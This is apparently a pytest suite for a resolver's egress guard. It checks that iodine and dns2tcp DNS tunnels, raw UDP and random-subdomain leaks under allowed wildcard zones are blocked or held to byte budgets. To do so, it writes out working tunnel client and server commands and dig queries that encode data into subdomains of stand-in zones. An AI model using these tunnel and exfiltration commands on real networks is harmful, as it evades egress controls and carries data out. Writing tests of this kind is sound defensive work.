"""Tunnels through the resolver: E1, and what an allowed zone still lets through (E2)."""

import re
import secrets
import socket
import subprocess
import threading
import time

import pytest
from arena import FOUR, ONE, THREE, TWO, asked, deny_but, in_namespace
from support.waiting import eventually

IODINE_ZONE, DNS2TCP_ZONE = "iodine.example", "dns2tcp.example"


def server(arena, *words):
    process = subprocess.Popen(
        ["nsenter", f"--net=/run/netns/{arena.outside}", *words],
        stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

    def listens():
        assert process.poll() is None, f"{words[0]} ended with {process.returncode}"
        sockets = subprocess.run(
            ["nsenter", f"--net=/run/netns/{arena.outside}", "ss", "-Hlun"], capture_output=True, text=True).stdout
        return f"{THREE if words[0] == 'iodined' else FOUR}:53" in sockets

    try:
        eventually(listens, what=words[0])
    except BaseException:
        process.kill()
        process.wait()
        raise
    return process


def delegate(arena, zone, address):
    """The upstream asks the tunnel's server about its zone, as a resolver of the world would."""
    def script(query):
        with in_namespace(arena.outside, lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM)) as relay:
            relay.settimeout(2)
            relay.sendto(query, (address, 53))
            try:
                return relay.recv(65536)
            except TimeoutError:
                return b""

    arena.names.scripts[zone] = script


@pytest.fixture(scope="module")
def iodined(arena):
    process = server(arena, "iodined", "-f", "-c", "-P", "secret", "-l", THREE, "10.250.0.1/28", IODINE_ZONE)
    delegate(arena, IODINE_ZONE, THREE)
    yield
    process.kill()
    process.wait()


@pytest.fixture(scope="module")
def dns2tcpd(arena):
    config = arena.folder / "dns2tcpd.conf"
    config.write_text(
        f"listen = {FOUR}\nport = 53\nuser = root\nchroot = /tmp\ndomain = {DNS2TCP_ZONE}\nresources = echo:{ONE}:7\n")
    process = server(arena, "dns2tcpd", "-F", "-f", str(config))
    delegate(arena, DNS2TCP_ZONE, FOUR)
    yield
    process.kill()
    process.wait()


def iodine(attacker, server, *options, timeout=6):
    """Whether the tunnel comes up."""
    process = attacker.start(
        "stdbuf", "-o0", "-e0", "iodine", "-f", "-r", "-P", "secret", "-m", "200", "-d", f"t{attacker.link}", *options, server,
        IODINE_ZONE)
    lines = []
    reader = threading.Thread(target=lambda: [lines.append(line) for line in process.stdout], daemon=True)
    reader.start()
    try:
        eventually(lambda: "Connection setup complete" in "".join(lines) or process.poll() is not None, within=timeout)
    except AssertionError:
        pass
    process.kill()
    process.wait()
    return "Connection setup complete" in "".join(lines)


def dns2tcp(attacker, server, *options, timeout=5):
    """Whether the client hears from the tunnel's server what it offers."""
    done = attacker.run("dns2tcpc", "-t", "1", "-z", DNS2TCP_ZONE, *options, server, timeout=timeout)
    return re.search(r"^\s*echo\s*$", done.stdout, re.M) is not None


@pytest.mark.parametrize("kind", ["NULL", "TXT", "A"])
def test_E1_iodine_gets_nothing_through_while_its_zone_is_denied(attacker, arena, iodined, kind):
    inside = attacker(deny_but("one.example"))
    options = ("-T", kind, "-O", "Base32")
    assert not iodine(inside, THREE, *options, timeout=1.5) and not iodine(inside, ONE, *options, timeout=1.5)
    assert arena.names.count(IODINE_ZONE) == 0 and not inside.arrived()
    assert iodine(attacker(guarded=False), THREE, *options, timeout=10)


@pytest.mark.parametrize("kind", ["TXT", "KEY"])
def test_E1_dns2tcp_gets_nothing_through_while_its_zone_is_denied(attacker, arena, dns2tcpd, kind):
    inside = attacker(deny_but("one.example"))
    assert not dns2tcp(inside, FOUR, "-T", kind, timeout=2)
    assert arena.names.count(DNS2TCP_ZONE) == 0 and not inside.arrived()
    assert dns2tcp(attacker(guarded=False), FOUR, "-T", kind)


def test_E1_raw_udp_mode_of_iodine_does_not_leave(attacker, iodined):
    inside = attacker(deny_but(f"*.{IODINE_ZONE}"))
    with inside.socket(socket.SOCK_DGRAM) as client:
        client.sendto(b"\x10\xd1\x9e\x20" + b"payload" * 20, (THREE, 53))
    assert not inside.arrived()


# The defaults of [egress.budgets] (docs/egress.md): bytes of information, at once and a minute.
BURST, RATE = 2048, 512


# More than a budget has at once.
DATAGRAMS, SIZE = 8, 500


def carries(attacker, server, *options):
    """How many datagrams come back through a tunnel of iodine, which claims to be up after two queries."""
    process = attacker.start(
        "iodine", "-f", "-r", "-P", "secret", "-m", "200", "-d", f"t{attacker.link}", *options, server, IODINE_ZONE)
    try:
        eventually(lambda: f"global t{attacker.link}" in attacker.run("ip", "address").stdout, within=15, what="the tunnel's address")
        back = 0
        with attacker.arena.listen(socket.SOCK_DGRAM, "10.250.0.1", 7, lambda data: data), \
                attacker.socket(socket.SOCK_DGRAM, timeout=2) as client:
            for _ in range(DATAGRAMS):
                # What cannot be compressed.
                client.sendto(secrets.token_bytes(SIZE), ("10.250.0.1", 7))
                try:
                    client.recv(2 * SIZE)
                    back += 1
                except OSError:
                    pass
        return back
    finally:
        process.kill()
        process.wait()


@pytest.mark.parametrize("kind", ["TXT", "MX"])
def test_E2_iodine_under_an_allowed_wildcard_carries_no_more_than_the_budget(attacker, iodined, kind):
    options = ("-T", kind, "-O", "Base32")
    # The far end of the tunnel is allowed: else the guard would refuse what the attacker sends into its own device.
    assert carries(attacker(deny_but(f"*.{IODINE_ZONE}", "10.250.0.1")), ONE, *options) * SIZE < BURST + RATE
    assert carries(attacker(guarded=False), THREE, *options) * SIZE > BURST + RATE


def leaked(arena, zone):
    """Characters that the zone's owner has read, each name once."""
    names = {asked(query)[0] for query in arena.names.queries}
    return sum(len(name) - len(zone) for name in names if name.endswith("." + zone))


def ask(inside, names, **options):
    inside.run("dig", "+tries=1", "+time=1", f"@{ONE}", "-f", "/dev/stdin", input="\n".join(names), **options)


def test_E2_five_hundred_random_names_under_an_allowed_wildcard_are_stopped_by_a_budget(attacker, arena):
    inside = attacker(deny_but("*.leak.example"))
    before = arena.names.count("leak.example")
    ask(inside, [f"{number:060x}.leak.example A" for number in range(500)], timeout=15)
    forwarded = arena.names.count("leak.example") - before
    # Each says 61 characters below the zone, 2/3 byte each, which type (1) and when (2).
    assert 0 < forwarded <= (BURST + RATE) // 44 + 1


def test_E2_what_leaks_under_a_wildcard_in_some_seconds_is_its_burst_and_its_rate(attacker, arena):
    inside = attacker(deny_but("*.drip.example"))
    began = time.monotonic()
    number = 0
    while time.monotonic() - began < 6:
        ask(inside, [f"{secrets.token_hex(20)}.drip.example A" for _ in range(50)], timeout=10)
        number += 50
    seconds = time.monotonic() - began
    # Hexadecimal digits carry half a byte each, of the two thirds that are counted for any character.
    carried = leaked(arena, "drip.example") / 2
    assert 500 < carried < BURST + RATE * seconds / 60, f"{carried} bytes of {number * 20} in {seconds:.1f} s"
    # The control: nothing counts without the guard.
    free = attacker(guarded=False)
    before = arena.names.count("drip.example")
    ask(free, [f"{secrets.token_hex(20)}.drip.example A" for _ in range(500)], timeout=15)
    assert arena.names.count("drip.example") - before == 500


def test_E2_a_refusal_names_its_budget_and_other_names_still_resolve(attacker, arena):
    arena.names.add("bucket.store.example", TWO)
    inside = attacker(deny_but("*.full.example", "*.store.example", "one.example"))

    def refused():
        said = inside.dig(f"{secrets.token_hex(28)}.full.example", "A")
        return said if "status: REFUSED" in said else None

    # An iodine of the test before may keep the upstream waiting.
    said = eventually(refused, within=60, what="the end of the budget")
    assert "EDE: 15" in said and "wildcardBytesPerMinute" in said, said
    eventually(lambda: inside.asks("bucket.store.example") == [TWO], what="a name of another wildcard")
    eventually(lambda: ONE in inside.asks("one.example"), what="a name that is allowed by itself")


def test_E2_forty_hashed_bucket_names_fit_into_the_budget(attacker, arena):
    buckets = [f"bucket-{secrets.token_hex(8)}.s3.example" for _ in range(40)]
    for bucket in buckets:
        arena.names.add(bucket, TWO)
    inside = attacker(deny_but("*.s3.example"))
    for bucket in buckets:
        eventually(lambda: inside.asks(bucket) == [TWO], what=bucket)


@pytest.mark.parametrize("kind", ["NULL", "PRIVATE"])
def test_E2_an_allowed_wildcard_still_carries_no_types_made_for_tunnels(attacker, arena, iodined, kind):
    before = arena.names.count(IODINE_ZONE)
    assert not iodine(attacker(deny_but(f"*.{IODINE_ZONE}")), ONE, "-T", kind, timeout=1.5)
    assert arena.names.count(IODINE_ZONE) == before
